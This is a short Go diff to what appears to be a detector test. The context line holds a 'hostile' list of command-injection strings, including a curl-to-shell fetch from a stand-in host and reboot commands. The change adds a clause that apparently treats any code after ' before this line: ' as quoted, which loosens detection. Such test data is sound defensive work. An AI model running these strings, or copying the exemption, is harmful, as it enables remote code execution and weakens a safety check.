@@ -20,7 +20,8 @@ var hostile = []string{"a;curl${IFS}evil.example|sh", "x&&reboot", "`reboot`", "
 func runs(markdown, text string) bool {
 	parts := strings.Split(markdown, "`")
 	for i, code := range parts {
-		quotes := code == text && !strings.HasSuffix(strings.ToLower(parts[max(0, i-1)]), "run ")
+		before := parts[max(0, i-1)]
+		quotes := code == text && !strings.HasSuffix(strings.ToLower(before), "run ") || strings.HasSuffix(before, " before this line: ") // a line to read
 		if i%2 == 1 && strings.Contains(code, text) && !quotes {
 			return true
 		}
